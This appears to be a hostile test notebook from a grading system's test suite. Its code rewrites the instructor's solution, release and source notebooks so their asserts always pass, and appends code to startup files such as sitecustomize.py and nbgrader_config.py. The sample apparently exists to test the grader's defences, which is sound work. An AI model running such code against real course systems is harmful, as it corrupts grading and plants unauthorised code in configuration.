# Writes an easier assignment over the instructor's and the release, and settings that run its
# code.
# gains: nothing
# ruff: noqa
raise SystemExit("a hostile notebook: tests/grading/hostile/README.md")

# %% [before q01-total]
from pathlib import Path

for root in (Path("@COURSE@"), Path("@CLASS@")):
    for path in [
        *root.glob("solutions/*/*.ipynb"),
        *root.glob("release/*/*.ipynb"),
        *root.glob("source/*/*.ipynb"),
    ]:
        try:
            path.write_text(path.read_text().replace("assert ", "True or "))
        except OSError as error:
            print(error)
    for name in ("nbgrader_config.py", "sitecustomize.py", "jupyter_config.py", "course.toml"):
        try:
            with (root / name).open("a") as file:
                file.write("\nprint('mine')\n")
        except OSError as error:
            print(error)
